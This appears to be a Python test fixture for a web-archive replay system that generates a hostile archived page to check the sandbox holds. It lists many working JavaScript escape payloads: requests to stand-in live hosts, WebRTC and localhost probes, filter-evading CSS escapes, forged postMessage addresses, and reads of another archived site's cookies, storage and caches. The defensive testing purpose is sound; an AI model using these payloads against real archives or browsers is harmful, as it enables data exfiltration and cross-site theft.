"""What does a hostile archived page try? Ways out, ways to the portal, ways to other archived sites.

`QUIET` are tried on one page, all together, and once more on a page of data within a page, where no script of ours has
changed anything; each of `GOING` leads away and has a page of its own. In a script: `live` is a site of the live web,
`tcp` and `udp` are ears on this machine, `portals` are spellings of the portal, `other` is another archived site, and
`raw()` is a window in which nothing of ours has changed anything (in the sandbox: none). What arrives or is gained says
by its number whose it is.
"""

import base64
import re
from collections.abc import Mapping
from typing import Final

from scripts.replays.pages import Thing

SITE: Final = "http://evil.acid.example"
OTHER: Final = "http://victim.acid.example"
LIVE: Final = "http://live.acid.example"

QUIET: Final[Mapping[str, str]] = {
    "fetch": "fetch(live).then(read)",
    "fetch without CORS": "fetch(live, {mode: 'no-cors'})",
    "fetch of a raw window": "raw().fetch(live).then(read)",
    "fetch to an address of this machine": "raw().fetch(tcp, {mode: 'no-cors'})",
    "XMLHttpRequest": "x = new (raw().XMLHttpRequest)(); x.open('GET', live); x.send()",
    "beacon": "raw().Navigator.prototype.sendBeacon.call(navigator, live)",
    "keepalive": "raw().fetch(live, {keepalive: true, method: 'POST', body: 'x', mode: 'no-cors'})",
    "picture": "put('img', {src: live})",
    "picture by its attribute node": (
        "a = document.createAttribute('src'); a.value = live; put('img').setAttributeNode(a)"
    ),
    "script": "put('script', {src: live})",
    "module": "put('script', {type: 'module', textContent: 'import(\"' + live + '\" + \"/m\")'})",
    "style sheet": "put('link', {rel: 'stylesheet', href: live})",
    "import of a style": "put('style', {textContent: '@\\\\69mport \"' + live + '\"'})",
    "font": "new FontFace('f', 'u\\\\72l(' + live + ')').load()",
    "background": "put('p').setAttribute('STYLE', 'background: u\\\\72l(' + live + ')')",
    "video": "put('video', {src: live, poster: live})",
    "audio": "new (raw().Audio)(live)",
    "object": "put('object', {data: live})",
    "embed": "put('embed', {src: live})",
    "frame": "put('iframe').contentWindow.location = live",
    "frame of markup": "put('div').innerHTML = '<iframe src=\"' + live + '\"></iframe>'",
    "event source": "new (raw().EventSource)(live)",
    "web socket": "new (raw().WebSocket)(tcp.replace('http', 'ws'))",
    "web transport": "new (raw().WebTransport)(live.replace('http:', 'https:'))",
    "peer connection": "peer(RTCPeerConnection)",
    "peer connection of a raw window": "peer(raw().RTCPeerConnection)",
    "peer connection in srcdoc": (
        "put('iframe', {srcdoc: '<script>' + peer + ';peer(RTCPeerConnection)</' + 'script>'})"
    ),
    "preconnect": "put('link', {rel: 'preconnect', href: tcp}); put('link', {rel: 'preconnect', href: live})",
    "name looked up ahead": "put('link', {rel: 'dns-prefetch', href: live})",
    "prefetch": "put('link', {rel: 'prefetch', href: live})",
    "prerender": "put('link', {rel: 'prerender', href: live})",
    "preload": "put('link', {rel: 'preload', as: 'image', href: live})",
    "module ahead": "put('link', {rel: 'modulepreload', href: live})",
    "rules ahead": (
        "put('script', {type: 'speculationrules', textContent: '{\"prefetch\": [{\"urls\": [\"' "
        "+ live + '\"]}]}'})"
    ),
    "manifest": "put('link', {rel: 'manifest', href: live})",
    "icon": "put('link', {rel: 'icon', href: live})",
    "ping": "a = put('a', {href: '#x'}); a.setAttribute('ping', live); a.click()",
    "form": (
        "f = put('form', {action: live, method: 'post', target: 'in'}); put('iframe', {name: 'in'});"
        " f.submit()"
    ),
    "form to save": "f = put('form', {action: portals[0] + '/save/' + live, method: 'post', target: 'on'}); "
    "put('iframe', {name: 'on'}); f.submit()",
    "worker": "work('fetch(\"' + live + '\")')",
    "worker that is no help": (
        "work('Object.getPrototypeOf(async()=>{}); (0,eval)(\"fetch\")(\"' + live + '\", {mode: "
        "\"no-cors\"})')"
    ),
    "worker of data": (
        "new (raw().Worker)('data:text/javascript,fetch(\"' + live + '\", {mode: \"no-cors\"})')"
    ),
    "service worker": "navigator.serviceWorker.register('/sw.js').then(() => gained('registered'))",
    "page of data": "put('iframe', {src: 'data:text/html,<img src=' + live + '>'})",
    "page of a blob": (
        "put('iframe', {src: URL.createObjectURL(new Blob(['<img src=' + live + '>'], {type: 'text/html'}))})"
    ),
    "page of a script": "put('iframe', {src: 'javascript:\"<img src=' + live + '>\"'})",
    "refresh of a frame": (
        "put('iframe', {srcdoc: '<meta http-equiv=refresh content=\"0;url=' + live + '\">'})"
    ),
    "window": "if (raw().open(live)) gained('window')",
    "report": "put('meta', {httpEquiv: 'Content-Security-Policy', content: 'img-src x; report-uri ' + live})",
    "the portal's interface": "portals.forEach(p => raw().fetch(p + '/api/v1/status').then(read))",
    "the portal's pages": "portals.forEach(p => raw().fetch(p + '/').then(read))",
    "the portal as a script": (
        "portals.forEach(p => put('script', {src: p + '/api/v1/status', onload: () => gained('script')}))"
    ),
    "the portal in a frame": "portals.forEach(p => { f = put('iframe', {src: p + '/'}); "
    "setTimeout(() => { if (f.contentDocument && f.contentDocument.title) gained(f.contentDocument.title) }, 1500) })",
    "the portal saves": (
        "portals.forEach(p => raw().fetch(p + '/save/' + live, {method: 'POST', mode: 'no-cors'}))"
    ),
    "the banner": "parent.document.querySelector('header').remove(); gained('banner')",
    "the window's document": "if (top !== self && top.document.title) gained(top.document.title)",
    "a message that opens": "top.postMessage({hd: 'open', url: live}, '*')",
    "a message that opens, as in the sandbox": (
        "top.postMessage({hd: 'go', url: portals[0] + '/status'}, '*')"
    ),
    "a false address": "top.postMessage({hd: 'shown', url: other + '/bank', title: 'Bank'}, '*')",
    "a false address of a script": (
        "top.postMessage({hd: 'shown', url: 'javascript:alert(1)', title: 7}, '*')"
    ),
    "ten thousand addresses": (
        "for (var i = 0; i < 10000; i++) top.postMessage({hd: 'shown', url: location.href + i},"
        " '*')"
    ),
    "another site's document": "f = put('iframe', {src: other + '/'}); "
    "setTimeout(() => { if (f.contentDocument.title) gained(f.contentDocument.title) }, 1500)",
    "another site's page": "raw().fetch(other + '/').then(a => a.url && 0)",
    "another site's storage": (
        "setInterval(() => { if (localStorage.getItem('victim')) gained('storage') }, 200)"
    ),
    "another site's storage in a frame": (
        "setTimeout(() => { if (raw().localStorage.getItem('victim')) gained('storage') }, 1500)"
    ),
    "another site's session": (
        "setTimeout(() => { if (sessionStorage.getItem('victim')) gained('session') }, 1500)"
    ),
    "another site's cookies": (
        "setTimeout(() => { if (/victim/.test(document.cookie)) gained('cookie') }, 1500)"
    ),
    "another site's databases": (
        "setTimeout(() => indexedDB.databases().then(d => { if (d.some(o => o.name === 'victim')) "
        "gained('database') }), 1500)"
    ),
    "another site's caches": (
        "setTimeout(() => caches.has('victim').then(h => { if (h) gained('cache') }), 1500)"
    ),
    "another site's channel": "new BroadcastChannel('victim').onmessage = () => gained('channel')",
    "another site's locks": (
        "setTimeout(() => navigator.locks.query().then(q => { if (q.held.some(o => o.name === 'victim')) "
        "gained('lock') }), 1500)"
    ),
    "another site's name": "history.pushState(null, '', other + '/'); gained('history')",
    "a cookie for all of this machine": (
        "a = raw(); if (a !== window) { a.document.cookie = 'evil=1; domain=localhost; path=/'; "
        "if (/evil/.test(a.document.cookie)) gained('cookie') }"
    ),
    "place and camera": "navigator.geolocation.getCurrentPosition(() => gained('place')); "
    "navigator.mediaDevices.getUserMedia({video: true}).then(() => gained('camera'))",
}  # fmt: skip
GOING: Final[Mapping[str, str]] = {
    "location": "self['location'] = live",  # spelled so that our server does not lead it
    "location.replace": "self['location'].replace(live)",
    "location of a raw window": "raw().eval('parent.location = \"' + live + '\"')",
    "navigation": "navigation.navigate(live)",
    "refresh": "put('meta', {httpEquiv: 'refresh', content: '0;url=' + live})",
    "written refresh": (
        "document.open(); document.write('<meta http-equiv=refresh content=\"0;url=' + live + '\">');"
        " document.close()"
    ),
    "the window's location": "top.location = live",
    "the parent's location": "window.parent.location = live",
    "a link to the window": "put('a', {href: live, target: '_top'}).click()",
    "a form to the window": "put('form', {action: live, target: '_top'}).submit()",
    "a link to a new window": "put('a', {href: live, target: '_blank'}).click()",
    "location of the portal": "self['location'] = portals[0] + '/api/v1/status'",
    "location of a script": "self['location'] = 'javascript:location=\"' + live + '\"'",
    "location of data": "self['location'] = 'data:text/html,<img src=' + live + '>'",
    "download": "put('a', {href: live, download: 'x'}).click()",
}  # fmt: skip
NUMBERS: Final = {name: number for number, name in enumerate((*QUIET, *GOING), 1)}
RAW_PAGE: Final = len(GOING) + 1
"""Where the quiet ones are tried in a page of data."""
_VICTIM = """<!doctype html><title>victim</title><script>
try { localStorage.victim = sessionStorage.victim = "1"; document.cookie = "victim=1; path=/"; } catch (error) {}
try {
  indexedDB.open("victim");
  caches.open("victim");
  navigator.locks.request("victim", () => new Promise(() => {}));
} catch (error) {}
setInterval(function () { new BroadcastChannel("victim").postMessage("secret"); }, 200);</script>"""
_START = """<!doctype html><title>evil</title><body><iframe src="OTHER/"></iframe><script>
var gains = [], isOver = false, salt = Math.random(), other = "OTHER";
var port = new URL(String(location)).port || (/:(\\d+)\\/web\\//.exec(document.baseURI) || [])[1] || "PORT";
var portals = ["127.0.0.1", "localhost", "[::1]", "127.1", "2130706433", "0x7f.1", "0.0.0.0", "127.0.0.2", "localhost.",
  "[::ffff:127.0.0.1]", "x.localhost", "127.0.0.3"].map(function (host) { return "http://" + host + ":" + port; });
addEventListener("message", function (event) { if (event.data && event.data.gain) gains.push(event.data.gain); });
function put(tag, fields) {
  var one = raw.document ? raw.document.createElement(tag) : document.createElement(tag);
  Object.assign(one, fields);
  return document.body.appendChild(one);
}
function raw() {  // not by contentWindow, which our script would notice
  document.body.appendChild(document.createElement("iframe"));
  var made = window.frames[window.frames.length - 1];
  try { made.fetch; return made; } catch (error) { return window; }
}
function peer(Kind) {
  var one = new Kind({ iceServers: [{ urls: "stun:127.0.0.1:UDP" }] });
  one.createDataChannel("x");
  one.createOffer().then(function (offer) { one.setLocalDescription(offer); });
}
peer.toString = (function (text) { return function () { return text; }; })(Function.prototype.toString.call(peer));
function work(code) { new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" }))); }
function tried(number, attack) {
  function gained(what) {
    gains.push(number + ": " + what);
    if (String(location).indexOf("data:") === 0) parent.postMessage({ gain: number + ": " + what }, "*");
  }
  function read(answer) {  // its own page it may read
    return answer.text().then(function (text) {
      if (text && text.indexOf("<title>evil") < 0) gained(text.slice(0, 80));
    });
  }
  var live = "LIVE/" + number + "/" + salt, tcp = "http://127.0.0.1:TCP/" + number + "/";
  try {
    Promise.resolve(attack(live, tcp, gained, read)).catch(function () {});
  } catch (error) { /* it is refused at once */ }
}
addEventListener("unhandledrejection", function (event) { event.preventDefault(); });
"""


def _page(attacks: Mapping[str, str], tcp_port: int, udp_port: int) -> str:
    tries = "".join(
        f"tried({NUMBERS[name]}, function (live, tcp, gained, read) {{ var a, f, x; {script}; }});\n"
        for name, script in attacks.items()
    )
    start = _START.replace("LIVE", LIVE).replace("OTHER", OTHER).replace("TCP", str(tcp_port))
    end = "setTimeout(function () { isOver = true; }, 4000);</script>"
    return start.replace("UDP", str(udp_port)) + tries + end


_RAW = """<!doctype html><title>evil</title><body><script>
var gains = [], port = new URL(String(location)).port || (/:(\\d+)\\/web\\//.exec(document.baseURI) || [])[1];
addEventListener("message", function (event) { if (event.data && event.data.gain) gains.push(event.data.gain); });
document.body.appendChild(document.createElement("iframe")).src =
  "data:text/html;base64," + btoa(atob("PAGE").replace('"PORT"', '"' + port + '"'));
</script>"""


def attack_site(tcp_port: int, udp_port: int) -> dict[str, Thing]:
    """Everything quiet at `/`, what leads away at `/1` and so on, everything quiet in a page of data at the last."""

    def html(text: str) -> Thing:
        return Thing(kind="text/html; charset=utf-8", body=text.encode())

    quiet = _page(QUIET, tcp_port, udp_port)
    pages = {f"{SITE}/": html(quiet)}
    for number, (name, script) in enumerate(GOING.items(), 1):
        pages[f"{SITE}/{number}"] = html(_page({name: script}, tcp_port, udp_port))
    pages[f"{SITE}/{RAW_PAGE}"] = html(_RAW.replace("PAGE", base64.b64encode(quiet.encode()).decode()))
    pages[f"{OTHER}/"] = html(_VICTIM)
    pages[f"{SITE}/sw.js"] = Thing(kind="text/javascript", body=b"")
    return pages


_PEERS = frozenset(name for name in QUIET if name.startswith("peer connection"))
_BY_NUMBER = re.compile(rf"{re.escape(LIVE)}/(\d+)/|ear: \S+ /(\d+)/|gained (\d+): ")


def whose(noticed: list[str]) -> set[str]:
    """The attacks that did what was noticed; of a datagram, which has no number, each that sends some."""
    names = {number: name for name, number in NUMBERS.items()}
    found = {names[int(match[match.lastindex or 1])] for one in noticed for match in _BY_NUMBER.finditer(one)}
    return found | (_PEERS if any("a datagram" in one for one in noticed) else set())
